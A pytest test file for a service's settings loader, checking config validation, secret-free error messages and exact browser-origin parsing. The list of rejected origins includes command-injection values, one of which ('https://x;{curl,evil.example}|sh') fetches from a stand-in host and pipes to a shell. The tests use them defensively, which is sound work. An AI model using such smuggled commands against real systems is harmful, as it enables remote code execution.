"""Settings come from one mapping; what contradicts or doesn't exist is refused in a sentence, and no secret is told."""

import re
import traceback

import pytest

from conversation.settings import Settings
from conversation.settings.value_types import exact_origin
from logging_store.errors import Misconfigured

SECRET = "hunter2-hunter2-hunter2"  # noqa: S105 - to be looked for where it must not be
ANYWHERE = "0.0.0.0"  # noqa: S104 - nothing listens here
POSTGRES = f"postgresql://turnlog:{SECRET}@db.example:5432/turnlog"
JWT_SECRET = f"{SECRET}-{SECRET}"
KEYS = {"TURNLOG_USER_TOKENS": "jwks", "TURNLOG_JWKS_URL": "https://id.example/keys", "TURNLOG_JWT_ISSUER": "id"}
SHARED = {"TURNLOG_USER_TOKENS": "hs256", "TURNLOG_JWT_SECRET": JWT_SECRET, "TURNLOG_JWT_ISSUER": "id"}
REDIS = {"TURNLOG_LIMITS_STORE": f"rediss://:{SECRET}@host:6379/0"}
SUPABASE = {"SUPABASE_URL": "https://abcdefgh.supabase.co", "SUPABASE_SECRET_KEY": SECRET}


def test_without_settings_everything_stays_on_this_machine() -> None:
    settings = Settings.from_mapping({})
    assert (settings.store_kind, str(settings.data_dir)) == ("embedded", "data")
    assert (settings.turnlog_host, settings.port, settings.turnlog_api_key) == ("127.0.0.1", 8000, None)


def test_the_store_is_the_one_that_is_named() -> None:
    service_role = {"SUPABASE_URL": SUPABASE["SUPABASE_URL"], "SUPABASE_SERVICE_ROLE_KEY": SECRET}
    kinds = [Settings.from_mapping(each).store_kind for each in ({"DATABASE_URL": POSTGRES}, SUPABASE, service_role)]
    assert kinds == ["postgres", "supabase", "supabase"]
    older = Settings.from_mapping(service_role).supabase_key
    newer = Settings.from_mapping(service_role | {"SUPABASE_SECRET_KEY": "the newer one"}).supabase_key
    assert older is not None
    assert newer is not None
    assert (older.get_secret_value(), newer.get_secret_value()) == (SECRET, "the newer one")


def test_an_empty_value_is_unset() -> None:
    names = [name.upper() for name in Settings.model_fields]
    assert Settings.from_mapping(dict.fromkeys(names, "")) == Settings.from_mapping({})


def test_what_others_set_is_ignored() -> None:
    assert Settings.from_mapping({"PATH": "/bin", "HOST": ANYWHERE, "turnlog_host": "x"}) == Settings.from_mapping({})


def test_strings_become_what_they_mean() -> None:
    settings = Settings.from_mapping({"PORT": "8080", "TURNLOG_DEADLINE_S": "2.5", "DATA_DIR": "/data"})
    assert (settings.port, settings.turnlog_deadline_s, settings.data_dir.parts) == (8080, 2.5, ("/", "data"))


@pytest.mark.parametrize(
    ("mapping", "said"),
    [
        (SUPABASE | {"DATABASE_URL": POSTGRES}, "DATABASE_URL and SUPABASE_URL are both set"),
        ({"SUPABASE_URL": SUPABASE["SUPABASE_URL"]}, "SUPABASE_URL is set without SUPABASE_SECRET_KEY"),
        ({"SUPABASE_SECRET_KEY": SECRET}, "SUPABASE_SECRET_KEY is set without SUPABASE_URL"),
        ({"SUPABASE_SERVICE_ROLE_KEY": SECRET}, "SUPABASE_SECRET_KEY is set without SUPABASE_URL"),
        ({"TURNLOG_KEYLESS": "1", "TURNLOG_HOST": ANYWHERE}, "TURNLOG_HOST is 0.0.0.0"),
        ({"TURNLOG_KEYLESS": "1", "TURNLOG_HOST": "::"}, "TURNLOG_HOST is ::"),
        ({"TURNLOG_KEYLESS": "1", "TURNLOG_HOST": "192.168.0.1"}, "TURNLOG_HOST is 192.168.0.1"),
        ({"TURNLOG_KEYLESS": "1", "TURNLOG_HOST": "turnlog.example"}, "TURNLOG_HOST is turnlog.example"),
        ({"TURNLOG_API_KEYS": SECRET}, "TURNLOG_API_KEYS is not a setting"),
        ({"TURNLOG_PORT": ""}, "TURNLOG_PORT is not a setting"),
        ({"PORT": "http"}, "PORT: "),
        ({"PORT": "0"}, "PORT: "),
        ({"PORT": "65536"}, "PORT: "),
        ({"TURNLOG_WORKERS": "0"}, "TURNLOG_WORKERS: "),
        ({"TURNLOG_WORKERS": "1.5"}, "TURNLOG_WORKERS: "),
        ({"TURNLOG_DEADLINE_S": "nan"}, "TURNLOG_DEADLINE_S: "),
        ({"TURNLOG_DEADLINE_S": "inf"}, "TURNLOG_DEADLINE_S: "),
        ({"TURNLOG_PROJECT": "two words"}, "TURNLOG_PROJECT: "),
        ({"TURNLOG_PROJECT": "a\nb"}, "TURNLOG_PROJECT: "),
        ({"TURNLOG_PROJECT": "x" * 101}, "TURNLOG_PROJECT: "),
        ({"TURNLOG_API_KEY": "hunter2"}, "TURNLOG_API_KEY: must be 16 or more"),
        ({"TURNLOG_API_KEY": f"{SECRET} "}, "TURNLOG_API_KEY: must be"),
        ({"TURNLOG_API_KEY": f"{SECRET}\n"}, "TURNLOG_API_KEY: must be"),
        ({"TURNLOG_API_KEY": f"{SECRET}é"}, "TURNLOG_API_KEY: must be"),
        ({"SUPABASE_URL": "abcdefgh.supabase.co", "SUPABASE_SECRET_KEY": SECRET}, "SUPABASE_URL: must be"),
        ({"SUPABASE_URL": POSTGRES, "SUPABASE_SECRET_KEY": SECRET}, "SUPABASE_URL: must be"),
        ({"SUPABASE_URL": "https://", "SUPABASE_SECRET_KEY": SECRET}, "SUPABASE_URL: must be"),
        ({"DATABASE_URL": f"mysql://turnlog:{SECRET}@db/turnlog"}, "DATABASE_URL: must be"),
        ({"DATABASE_URL": f"postgresql//turnlog:{SECRET}@db/turnlog"}, "DATABASE_URL: must be"),
        ({"DATABASE_URL": SECRET}, "DATABASE_URL: must be"),
        ({"TURNLOG_USER_TOKENS": "both"}, "TURNLOG_USER_TOKENS: "),
        ({"TURNLOG_JWT_SECRET": JWT_SECRET}, "TURNLOG_JWT_SECRET is set without TURNLOG_USER_TOKENS"),
        ({"TURNLOG_ANONYMOUS_USERS": "true"}, "TURNLOG_ANONYMOUS_USERS is set without TURNLOG_USER_TOKENS"),
        ({"TURNLOG_USER_ORIGINS": "https://a.example"}, "TURNLOG_USER_ORIGINS is set without TURNLOG_USER_TOKENS"),
        (SHARED | {"TURNLOG_JWT_SECRET": ""}, "TURNLOG_USER_TOKENS is hs256 without TURNLOG_JWT_SECRET"),
        (SHARED | {"TURNLOG_JWT_SECRET": "hunter2" * 4}, "TURNLOG_JWT_SECRET: must be 32 or more"),
        (SHARED | {"TURNLOG_JWT_SECRET": f"-----BEGIN PUBLIC KEY-----{SECRET}"}, "TURNLOG_JWT_SECRET: must be"),
        (SHARED | {"TURNLOG_JWKS_URL": "https://id.example/keys"}, "TURNLOG_USER_TOKENS is hs256 and TURNLOG_JWKS_URL"),
        (SHARED | {"TURNLOG_JWT_ISSUER": ""}, "TURNLOG_USER_TOKENS is set without TURNLOG_JWT_ISSUER"),
        (KEYS | {"TURNLOG_JWT_SECRET": JWT_SECRET}, "TURNLOG_USER_TOKENS is jwks and TURNLOG_JWT_SECRET"),
        (KEYS | {"TURNLOG_JWKS_URL": ""}, "TURNLOG_USER_TOKENS is jwks without TURNLOG_JWKS_URL"),
        (KEYS | {"TURNLOG_JWT_ISSUER": ""}, "TURNLOG_USER_TOKENS is set without TURNLOG_JWT_ISSUER"),
        (KEYS | {"TURNLOG_JWKS_URL": "http://id.example/keys"}, "TURNLOG_JWKS_URL: must be an https URL"),
        (KEYS | {"TURNLOG_JWKS_URL": f"https://user:{SECRET}@id.example/keys"}, "TURNLOG_JWKS_URL: must be"),
        ({"TURNLOG_RATE_PER_KEY": "many"}, "TURNLOG_RATE_PER_KEY: must be a number of calls and a time"),
        ({"TURNLOG_RATE_PER_KEY": "0/minute"}, "TURNLOG_RATE_PER_KEY: must be"),
        ({"TURNLOG_RATE_PER_USER": "10/week"}, "TURNLOG_RATE_PER_USER: must be"),
        ({"TURNLOG_REFUSALS_PER_ADDRESS": "60"}, "TURNLOG_REFUSALS_PER_ADDRESS: must be"),
        ({"TURNLOG_PUBLISHABLE_SESSIONS_PER_DAY": "0"}, "TURNLOG_PUBLISHABLE_SESSIONS_PER_DAY: "),
        ({"TURNLOG_LIMITS_STORE": f"memcached://:{SECRET}@host"}, "TURNLOG_LIMITS_STORE: must be memory, or"),
        ({"TURNLOG_LIMITS_STORE": f"redis://:{SECRET}@"}, "TURNLOG_LIMITS_STORE: must be memory, or"),
        ({"TURNLOG_LIMITS_STORE": f"redis://:{SECRET}@host:port"}, "TURNLOG_LIMITS_STORE: must be memory, or"),
        ({"TURNLOG_PROXIES": "-1"}, "TURNLOG_PROXIES: "),
        ({"TURNLOG_PROXIES": "1", "TURNLOG_KEYLESS": "true"}, "TURNLOG_KEYLESS and TURNLOG_PROXIES are both set"),
        (KEYS | {"TURNLOG_USER_ORIGINS": "*"}, "TURNLOG_USER_ORIGINS: must be an origin"),
        (KEYS | {"TURNLOG_USER_ORIGINS": "https://a.example,https://b.example/x"}, "TURNLOG_USER_ORIGINS: must be"),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
def test_a_contradiction_is_one_sentence_that_tells_no_secret(mapping: dict[str, str], said: str) -> None:
    with pytest.raises(Misconfigured) as caught:
        Settings.from_mapping(mapping)
    sentence = str(caught.value)
    assert sentence.startswith(said)
    assert "\n" not in sentence
    assert "hunter2" not in "".join(traceback.format_exception(caught.value))


@pytest.mark.parametrize("host", ["127.0.0.1", "127.8.8.8", "::1", "localhost"])
def test_loopback_needs_no_key(host: str) -> None:
    assert Settings.from_mapping({"TURNLOG_HOST": host}).turnlog_host == host


def test_with_a_key_the_service_may_listen_anywhere() -> None:
    assert Settings.from_mapping({"TURNLOG_HOST": ANYWHERE, "TURNLOG_API_KEY": SECRET}).turnlog_host == ANYWHERE


@pytest.mark.parametrize("mapping", [SUPABASE, {"DATABASE_URL": POSTGRES}, {"TURNLOG_API_KEY": SECRET}, SHARED, REDIS])
def test_settings_print_without_their_secrets(mapping: dict[str, str]) -> None:
    settings = Settings.from_mapping(mapping)
    for text in (repr(settings), str(settings), repr(settings.model_dump()), settings.model_dump_json()):
        assert "hunter2" not in text


@pytest.mark.parametrize(
    "origin", ["https://a.example", "http://localhost:3000", "https://[::1]:8443", "https://xn--bcher-kva.example"]
)
def test_an_origin_is_as_browsers_send_it(origin: str) -> None:
    assert exact_origin(origin) == origin
    settings = Settings.from_mapping(KEYS | {"TURNLOG_USER_ORIGINS": f" {origin}, https://b.example ,"})
    assert settings.turnlog_user_origins == {origin, "https://b.example"}


@pytest.mark.parametrize(
    "origin",
    ["", "*", "null", "https://", "https://*", "https://A.example", "HTTPS://a.example", "https://a.example//",
     "https://a.example:443", "http://a.example:80", "https://a.example:x", "https://a.example:0443", "https://u@a.example",
     "https://a.example?x", "https://a.example#x", "file://a", "https://bücher.example", "https://a.example\n", "https://[a",
     "https://x;{curl,evil.example}|sh", "https://a$(id)", "https://`id`", "https://" + "a" * 254],
)  # fmt: skip
def test_what_no_browser_sends_is_no_origin(origin: str) -> None:
    with pytest.raises(ValueError, match="must be an origin exactly as browsers send it"):
        exact_origin(origin)


@pytest.mark.parametrize(
    ("text", "meant"),
    [
        ("a.example", "https://a.example"),
        ("localhost:3000", "http://localhost:3000"),
        ("a.example/", "https://a.example"),
    ],
)
def test_an_origin_without_its_scheme_is_told_which_is_meant(text: str, meant: str) -> None:
    with pytest.raises(ValueError, match=f"must begin with its scheme: {meant}"):
        exact_origin(text)


def test_the_slash_of_a_copied_address_is_dropped() -> None:
    assert exact_origin("http://localhost:3000/") == "http://localhost:3000"


def test_each_address_has_a_name_of_its_own() -> None:
    stores: list[dict[str, str]] = [
        {},
        {"DATABASE_URL": "postgresql://user:one@host/database"},
        {"DATABASE_URL": "postgresql://user:one@host/other"},
        {"DATABASE_URL": "postgresql://user:one@elsewhere/database"},
        {"SUPABASE_URL": "https://one.supabase.co", "SUPABASE_SECRET_KEY": "key"},
        {"SUPABASE_URL": "https://two.supabase.co", "SUPABASE_SECRET_KEY": "key"},
    ]
    names = {Settings.from_mapping(store).address for store in stores}
    assert len(names) == len(stores)
    again = Settings.from_mapping({"DATABASE_URL": "postgresql://user:changed@host/database"})
    assert again.address in names, "a new password is no other store"


@pytest.mark.parametrize("name", ["TURNLOG_KEY", "TURNLOG_URL", "TURNLOG_SPOOL"])
def test_the_variables_of_callers_are_no_mistake(name: str) -> None:
    assert Settings.from_mapping({name: SECRET}) == Settings.from_mapping({})


@pytest.mark.parametrize("name", [name.upper() for name in Settings.model_fields])
def test_no_wrong_value_is_refused_in_pydantics_words(name: str) -> None:
    said = ""
    for value in ("maybe, or not", "-1", "99999999999"):
        try:
            Settings.from_mapping({name: value})
        except Misconfigured as error:
            said += f"{error}\n"
    assert not re.search(r"Input|should be|valid |parse|Value error", said)


@pytest.mark.parametrize(
    ("mapping", "sentence"),
    [
        ({"TURNLOG_WORKERS": "x"}, 'TURNLOG_WORKERS: must be a whole number, not the text "x"'),
        ({"TURNLOG_KEYLESS": "maybe"}, 'TURNLOG_KEYLESS: must be true or false, not the text "maybe"'),
        ({"PORT": "99999"}, "PORT: must be 65,535 or less"),
        ({"TURNLOG_TIME_ZONE": "Mars/Olympus"}, "TURNLOG_TIME_ZONE: must be a time zone, as in Europe/Berlin or UTC"),
        ({"TURNLOG_TIME_ZONE": "../UTC"}, "TURNLOG_TIME_ZONE: must be a time zone, as in Europe/Berlin or UTC"),
        ({"TURNLOG_TIME_ZONE": "Europe"}, "TURNLOG_TIME_ZONE: must be a time zone, as in Europe/Berlin or UTC"),
        ({"TURNLOG_UNSTORABLE": "rejct"}, "TURNLOG_UNSTORABLE: must be one of replace, reject. Did you mean reject?"),
        ({"TURNLOG_REDACT_GITLEAKS": "none.toml"}, "TURNLOG_REDACT_GITLEAKS: must be the path of a file that exists"),
    ],
)
def test_a_wrong_value_is_explained(mapping: dict[str, str], sentence: str) -> None:
    with pytest.raises(Misconfigured) as caught:
        Settings.from_mapping(mapping)
    assert str(caught.value) == sentence
